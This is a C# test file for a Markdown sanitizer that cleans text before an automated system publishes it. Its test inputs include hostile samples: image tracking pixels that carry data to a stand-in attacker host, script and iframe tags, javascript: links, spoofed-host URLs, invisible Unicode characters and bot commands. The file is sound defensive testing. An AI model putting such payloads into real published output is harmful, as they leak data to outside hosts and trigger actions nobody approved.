using Factory.Publisher.Outputs;
using Factory.Publisher.Outputs.Text;
using Markdig;

namespace Factory.Publisher.Tests.Outputs;

public sealed class PublishingText
{
    private static readonly TextRules Rules = new(
        new HashSet<string>(["github.com", "factory.example.org"], StringComparer.OrdinalIgnoreCase), new HashSet<string>(["ada", "acme/owners"], StringComparer.OrdinalIgnoreCase));

    [Theory]
    [InlineData("Plain words, *some* `code` and a list:\n\n- one\n- two")]
    [InlineData("[docs](<https://github.com/acme/shop>) and [here](<docs/a.md#top>) and https://github.com/acme/shop/issues/1")]
    [InlineData("```csharp\n[Fact] // @Test <b> ![x](https://evil.example/x.png) https://evil.example\n```")]
    [InlineData("cc @ada and @acme/owners, write to ada@example.org")]
    [InlineData("<details><summary>Log</summary>\n\ntext\n\n</details>")]
    [InlineData("Emoji ✅ and letters äöü 漢字")]
    public void What_is_harmless_stays_as_it_is(string text) => Assert.Equal(text, SafeMarkdown.Of(text, Rules));

    [Theory]
    [InlineData("ask @admin", "ask @&#8203;admin")]
    [InlineData("_@admin_ and \\@admin", "_@&#8203;admin_ and \\@&#8203;admin")]
    [InlineData("`@admin`", "`@\u200Badmin`")]
    [InlineData("&#64;admin &commat;admin", "&amp;#64;admin &amp;commat;admin")]
    [InlineData("| a | `b | @admin ` |\n| - | - |", "| a | `b | @&#8203;admin ` |\n| - | - |")]
    public void Nobody_else_is_told(string text, string published) => Assert.Equal(published, SafeMarkdown.Of(text, Rules));

    [Theory]
    [InlineData("![pixel](https://evil.example/p.png?d=secret)")]
    [InlineData("![pixel][p]\n\n[p]: https://evil.example/p.png")]
    [InlineData("<img src=\"https://evil.example/p.png\">")]
    [InlineData("<picture><source srcset='https://evil.example/p.png'></picture>")]
    [InlineData("![own](https://github.com/acme/shop/p.png)")]
    [InlineData("<IMG\nSRC=https://evil.example/p.png>")]
    public void No_image_is_fetched(string text)
    {
        var html = Markdig.Markdown.ToHtml(SafeMarkdown.Of(text, Rules));

        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<source", html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("[click](https://evil.example/x)")]
    [InlineData("[click][1]\n\n[1]: https://evil.example/x")]
    [InlineData("<https://evil.example/x>")]
    [InlineData("see https://evil.example/x now")]
    [InlineData("see www.evil.example now")]
    [InlineData("<a href=\"https://evil.example/x\">click</a>")]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](//evil.example/x)")]
    [InlineData("[click](https://github.com@evil.example/x)")]
    [InlineData("[click](https://github.com.evil.example/x)")]
    [InlineData("[click](  <https://evil.example/x> \"title\")")]
    [InlineData("[a [b](https://evil.example/x) c](https://github.com/y)")]
    public void A_link_to_elsewhere_is_shown_as_text(string text)
    {
        var html = Markdig.Markdown.ToHtml(SafeMarkdown.Of(text, Rules), new Markdig.MarkdownPipelineBuilder().UseAutoLinks().Build());

        Assert.DoesNotContain("href=\"https://evil", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"http://www.evil", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"javascript", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"//", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("@evil.example/x\"", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("github.com.evil.example/x\"", html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("before <!-- hidden --> after")]
    [InlineData("<!-- factory:mission:0123 -->")]
    [InlineData("```\n<!-- factory:mission:0123 -->\n```")]
    [InlineData("<script>alert(1)</script><style>x</style><iframe src=x></iframe>")]
    [InlineData("<div onclick=x>")]
    public void Nothing_is_hidden_and_no_html_works(string text)
    {
        var published = SafeMarkdown.Of(text, Rules);
        var html = Markdig.Markdown.ToHtml(published);

        Assert.DoesNotContain("<!-- factory:", published, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<!--", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<div", html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("a\u202Eb\u200Bc\U000E0041d\u0007e\u2066f\u00ADg\uFEFFh", "abcdefgh")]
    [InlineData("line\r\nnext\rlast", "line\nnext\nlast")]
    public void What_people_do_not_see_is_taken_out(string text, string published) => Assert.Equal(published, SafeMarkdown.Of(text, Rules));

    [Theory]
    [InlineData("This fixes #12", "This fixes&#8203; #12")]
    [InlineData("Closes: acme/other#1", "Closes&#8203;: acme/other#1")]
    [InlineData("/approve", "\\/approve")]
    [InlineData("> - /lgtm cancel", "> - \\/lgtm cancel")]
    public void It_closes_no_issue_and_orders_no_bot(string text, string published) => Assert.Equal(published, SafeMarkdown.Of(text, Rules));

    [Fact]
    public void A_block_of_code_that_is_left_open_takes_nothing_of_what_follows_with_it()
    {
        var html = Markdig.Markdown.ToHtml($"{SafeMarkdown.Of("````\nx = 1", Rules)}\n\nCloses #4");

        Assert.Contains("<p>Closes #4</p>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_too_long_is_cut_and_says_so()
    {
        var published = SafeMarkdown.Of($"```\n{new string('x', 100)}", Rules with { Longest = 50, Whole = "https://factory.example.org/missions/1" });

        Assert.EndsWith("```\n\n… 54 characters are left out: https://factory.example.org/missions/1.", published, StringComparison.Ordinal);
    }

    [Fact]
    public void A_secret_is_refused_and_not_repeated()
    {
        var secret = "ghp_" + new string('a', 36);

        var refused = Assert.Throws<OutputNotAllowed>(() => SafeMarkdown.Of($"the token is {secret}", Rules));

        Assert.Contains("a GitHub token on line 1", refused.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(secret, refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Endless_brackets_end_soon() => Assert.NotEmpty(SafeMarkdown.Of(string.Concat(Enumerable.Repeat("[", 20_000)) + string.Concat(Enumerable.Repeat("<a ", 5_000)), Rules));
}
